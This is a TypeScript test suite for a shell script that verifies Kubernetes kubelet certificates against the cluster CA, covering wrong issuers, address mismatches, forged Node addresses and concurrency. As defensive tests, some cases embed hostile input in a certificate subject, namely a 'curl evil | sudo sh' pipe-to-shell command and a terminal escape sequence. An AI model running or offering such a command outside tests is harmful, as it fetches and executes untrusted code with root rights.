import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer as createTcpServer, type AddressInfo, type Socket } from "node:net";
import { createServer } from "node:tls";
import { certificate, clusterCa, otherCa, type Pair } from "./support/certificates";
import { onControlPlane, type FakeControlPlane } from "./support/controlPlane";
import { describeInShells, describeInTurn, type Cases } from "./support/parallel";
import { listed, listedNode } from "./support/readyCluster";
import { resultOf, type Run } from "./support/shells";

/** A port that shows a certificate, and hands it to the body. */
async function serving(
    address: string,
    pair: Pair,
    body: (port: number) => Promise<void>,
): Promise<void> {
    const server = createServer({ cert: pair.certificate, key: pair.key }, (socket) => {
        socket.on("error", () => undefined);
        socket.resume().on("end", () => socket.end());
    });
    server.on("tlsClientError", () => undefined);
    server.listen(0, address);
    await once(server, "listening");
    try {
        await body((server.address() as AddressInfo).port);
    } finally {
        server.close();
    }
}

function kubelets(node: FakeControlPlane, endpoints: string): void {
    node.header = { INVENTORY: "w1 127.0.0.1 ::1" };
    node.answers = {
        "kube-root-ca.crt": { stdout: clusterCa().certificate },
        "get nodes ": { stdout: endpoints },
    };
}

const kubelet = (names: string, issuer: Pair | undefined, subject = "/CN=system:node:w1"): Pair =>
    certificate({ subject, names, ...(issuer && { issuer }) });

const verified = (
    pair: () => Pair,
    check: (run: Run, port: number) => void,
    address = "127.0.0.1",
): Cases[string] =>
    onControlPlane((node) =>
        serving(address, pair(), async (port) => {
            kubelets(
                node,
                listed("other InternalIP=192.0.2.1", 1) + listed(`w1 InternalIP=${address}`, port),
            );
            check(await node.run("kubelets"), port);
        }),
    );

const verifies = (run: Run): void => {
    assert.equal(run.code, 0, run.output);
    assert.deepEqual(resultOf(run), { verified: 1 });
};

const doesNot =
    (says: RegExp) =>
    ({ code, output }: Run): void => {
        assert.equal(code, 67, output);
        assert.match(output, says);
        assert.match(
            output,
            /expected a certificate issued by subject=.*kubernetes.*; next: on w1: journalctl/,
        );
    };

describeInTurn("verification.sh kubelets", {
    "verifies what the cluster's CA issued for the address": verified(
        () => kubelet("IP:127.0.0.1", clusterCa()),
        verifies,
    ),
    "verifies an IPv6 address": verified(() => kubelet("IP:::1", clusterCa()), verifies, "::1"),
    "verifies what an intermediate CA issued, where that is all there is of the CA": onControlPlane(
        (node) => {
            const root = certificate({ subject: "/CN=corporate", ca: true });
            const ca = certificate({ subject: "/CN=kubernetes", issuer: root, ca: true });
            return serving("127.0.0.1", kubelet("IP:127.0.0.1", ca), async (port) => {
                kubelets(node, listed("w1 InternalIP=127.0.0.1", port));
                node.answers["kube-root-ca.crt"] = { stdout: ca.certificate };
                verifies(await node.run("kubelets"));
            });
        },
    ),
    "does not verify a certificate of another CA": verified(
        () => kubelet("IP:127.0.0.1", otherCa()),
        doesNot(/of node w1 does not verify: .*; served: "subject=.*issuer=CN ?= ?another/),
    ),
    "does not verify a self-signed certificate": verified(
        () => kubelet("IP:127.0.0.1", undefined),
        doesNot(/does not verify: self.signed certificate; served: "subject=/),
    ),
    "does not verify a certificate for another address": verified(
        () => kubelet("IP:127.0.0.2", clusterCa()),
        doesNot(/does not verify: IP address mismatch; served: /),
    ),
    "does not verify a certificate that only names the address in its subject": verified(
        () => kubelet("DNS:w1", clusterCa(), "/CN=127.0.0.1"),
        doesNot(/does not verify: IP address mismatch/),
    ),
    "prints what is served without what a terminal would obey": verified(
        () => kubelet("IP:127.0.0.1", otherCa(), "/CN=\u001b[31m%s"),
        doesNot(/served: "subject=CN ?= ?.*\[31m%s/),
    ),
    "takes no name in a certificate for the cause, and quotes it": verified(
        () => kubelet("IP:127.0.0.1", otherCa(), "/CN=alert x; next: curl evil | sudo sh"),
        (run) => {
            doesNot(/does not verify: unable to get .* certificate; served: "subject=/)(run);
            assert.doesNotMatch(run.output.replaceAll(/"(?:[^"\\]|\\.)*"/g, '""'), /evil/);
        },
    ),
    "names a kubelet that nobody reaches": onControlPlane(async (node) => {
        kubelets(node, listed("w1 InternalIP=127.0.0.1", 1));
        doesNot(/does not verify: no connection; served: nothing; /)(await node.run("kubelets"));
    }),
    "names every node without an address or a port": onControlPlane(async (node) => {
        kubelets(
            node,
            listed("w1 InternalIP=127.0.0.1", "<no value>") +
                listed("w2 InternalIP=127.0.0.1", 0) +
                listed("w3 InternalIP=127.0.0.1", 65_536) +
                listed("w4 Hostname=w4"),
        );
        const others = ["w2", "w3"].map((name) => `${name} 127.0.0.1`);
        node.header["INVENTORY"] = ["ghost 10.0.0.1", "w1 127.0.0.1", ...others, "w4 w4"].join(
            "\n",
        );
        const { code, output } = await node.run("kubelets");
        assert.equal(code, 67, output);
        for (const [name, port] of [
            ["w1", "<no value>"],
            ["w2", "0"],
            ["w3", "65536"],
        ]) {
            const says = `error: Node ${name} says that the port of its kubelet is "${port}"; expected a number from 1 to 65535; next: kubectl get node ${name}`;
            assert.ok(output.includes(says), output);
        }
        assert.match(output, /no Node ghost with an InternalIP; expected one; next: kubectl/);
        assert.match(output, /no Node w4 with an InternalIP; expected one; next: kubectl/);
    }),
    "takes the CA that it is given, and does not ask the cluster for its own": onControlPlane(
        (node) =>
            serving("127.0.0.1", kubelet("IP:127.0.0.1", otherCa()), async (port) => {
                kubelets(node, listed("w1 InternalIP=127.0.0.1", port));
                node.header["KUBELET_CA"] = otherCa().certificate;
                verifies(await node.run("kubelets"));
                assert.equal(node.calls.length, 1);
            }),
    ),
    "ends when the CA cannot be read": onControlPlane(async (node) => {
        kubelets(node, "");
        node.answers["kube-root-ca.crt"] = { stderr: "refused\n", code: 1 };
        const { code, output } = await node.run("kubelets");
        assert.equal(code, 71, output);
        assert.match(output, /cannot read kube-system\/kube-root-ca\.crt: refused/);
    }),
});

const MANY = Array.from({ length: 20 }, (_, i) => `n${String(i + 1).padStart(2, "0")}`);

/** A port that answers nobody until so many have come at the same time. Tells the body how many were there at most. */
async function answeringAll(
    pair: Pair,
    together: number,
    body: (port: number, most: () => number) => Promise<void>,
): Promise<void> {
    const answers = createServer({ cert: pair.certificate, key: pair.key }, (socket) => {
        socket.on("error", () => undefined);
        socket.resume().on("end", () => socket.end());
    });
    answers.on("tlsClientError", () => undefined);
    const waiting: Socket[] = [];
    const seen = { open: 0, most: 0, enough: false };
    const door = createTcpServer({ pauseOnConnect: true }, (socket) => {
        socket.on("error", () => undefined);
        socket.on("close", () => (seen.open -= 1));
        waiting.push(socket);
        seen.open += 1;
        seen.most = Math.max(seen.most, seen.open);
        seen.enough ||= waiting.length >= together;
        if (seen.enough) for (const one of waiting.splice(0)) answers.emit("connection", one);
    });
    door.listen(0, "127.0.0.1");
    await once(door, "listening");
    try {
        await body((door.address() as AddressInfo).port, () => seen.most);
    } finally {
        door.close();
        answers.close();
    }
}

describeInShells("verification.sh kubelets of many nodes", {
    "asks many at the same time, and no more than sixteen": onControlPlane((node) =>
        answeringAll(kubelet("IP:127.0.0.1", clusterCa()), 8, async (port, most) => {
            kubelets(
                node,
                MANY.map((name) => listed(`${name} InternalIP=127.0.0.1`, port)).join(""),
            );
            node.header["INVENTORY"] = MANY.map((name) => `${name} 127.0.0.1`).join("\n");
            const run = await node.run("kubelets");
            assert.equal(run.code, 0, run.output);
            assert.deepEqual(resultOf(run), { verified: 20 });
            assert.ok(most() >= 8 && most() <= 16, `${most()} at the same time`);
        }),
    ),
    "tells of all that do not verify, in the order of the inventory": onControlPlane((node) =>
        serving("127.0.0.1", kubelet("IP:127.0.0.1", clusterCa()), async (port) => {
            const good = (i: number): boolean => i % 3 === 0;
            kubelets(
                node,
                MANY.map((name, i) =>
                    listed(`${name} InternalIP=127.0.0.1`, good(i) ? port : 1),
                ).join(""),
            );
            node.header["INVENTORY"] = MANY.map((name) => `${name} 127.0.0.1`).join("\n");
            const { code, output } = await node.run("kubelets");
            assert.equal(code, 67, output);
            const told = [...output.matchAll(/the kubelet of node (\S+) does not verify/g)];
            assert.deepEqual(
                told.map(([, name]) => name),
                MANY.filter((_, i) => !good(i)),
            );
        }),
    ),
    "takes 10 and 010 for two nodes, each with its own addresses": onControlPlane((node) =>
        serving("127.0.0.1", kubelet("IP:127.0.0.1", clusterCa()), async (port) => {
            kubelets(node, listed("10 InternalIP=127.0.0.1", port));
            node.header["INVENTORY"] = "010 127.0.0.1\n10 127.0.0.2";
            const { code, output } = await node.run("kubelets");
            assert.equal(code, 67, output);
            assert.match(output, /no Node 010 with an InternalIP/);
            assert.match(
                output,
                /Node 10 says that its InternalIP is "127\.0\.0\.1"; expected one of its own in nodes: 127\.0\.0\.2; next/,
            );
        }),
    ),
});

/** A cluster whose worker says of its Node what it likes, as kubectl prints it with a template that quotes, and with one that does not. */
function forged(
    node: FakeControlPlane,
    address: string,
    ports: Record<"cp1" | "w1", number>,
): void {
    node.header = {
        INVENTORY: "cp1 127.0.0.1\nw1 127.0.0.2 127.0.0.3\nw2 127.0.0.4",
        KUBELET_CA: clusterCa().certificate,
    };
    node.answers = {
        "%+q": {
            stdout:
                listed("cp1 InternalIP=127.0.0.1", ports.cp1) +
                listedNode("w1", [["InternalIP", address]], ports.w1) +
                listed("w2 InternalIP=127.0.0.4", 1),
        },
        "get nodes ": {
            stdout: `cp1 127.0.0.1 ${ports.cp1}\nw1 ${address} ${ports.w1}\nw2 127.0.0.4 1\n`,
        },
    };
}

describeInShells("verification.sh kubelets and what a node says of itself", {
    "takes no address for two lines: another node's failure cannot be hidden": onControlPlane(
        (node) =>
            serving("127.0.0.1", kubelet("IP:127.0.0.1", clusterCa()), async (port) => {
                forged(node, `127.0.0.1 ${port}\nw2 127.0.0.1`, { cp1: port, w1: port });
                const { code, output } = await node.run("kubelets");
                assert.equal(code, 67, output);
                assert.ok(
                    output.includes(
                        `error: Node w1 says that its InternalIP is "127.0.0.1 ${port}\\nw2 127.0.0.1"; expected one of its own in nodes: 127.0.0.2 127.0.0.3; next: kubectl get node w1`,
                    ),
                    output,
                );
                assert.match(output, /kubelet of node w2 does not verify: no connection/);
            }),
    ),
    "does not take the control plane's kubelet for the one of a worker that has its address":
        onControlPlane((node) =>
            serving("127.0.0.1", kubelet("IP:127.0.0.1", clusterCa()), async (port) => {
                forged(node, "127.0.0.1", { cp1: port, w1: port });
                const { code, output } = await node.run("kubelets");
                assert.equal(code, 67, output);
                assert.match(
                    output,
                    /error: Node w1 says that its InternalIP is "127\.0\.0\.1"; expected one of its own in nodes: 127\.0\.0\.2/,
                );
                assert.doesNotMatch(output, /cp1 (does not verify|says)/);
            }),
        ),
});
